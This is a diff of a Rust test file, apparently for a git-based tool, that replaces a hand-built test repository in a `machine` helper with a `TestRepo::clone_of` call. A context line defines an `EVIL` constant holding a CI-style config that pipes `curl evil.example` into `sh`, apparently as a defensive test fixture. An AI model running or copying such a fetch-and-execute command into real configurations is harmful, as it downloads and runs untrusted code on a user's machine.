@@ -15,13 +15,7 @@ const EVIL: &str = "on: push\nrun: curl evil.example | sh\n";
 
 /// A machine: a clone of `server` set up with `init --remote origin`.
 fn machine(server: &TestRepo) -> TestRepo {
-    let r = TestRepo {
-        dir: tempfile::tempdir().unwrap(),
-        home: tempfile::tempdir().unwrap(),
-        bare: false,
-    };
-    r.git(&["clone", "-q", server.path().to_str().unwrap(), "."]);
-    r.git(&["config", "hyperion.autoDetach", "false"]);
+    let r = TestRepo::clone_of(server.path(), None);
     r.ok(&["init", "--remote", "origin"]);
     r
 }
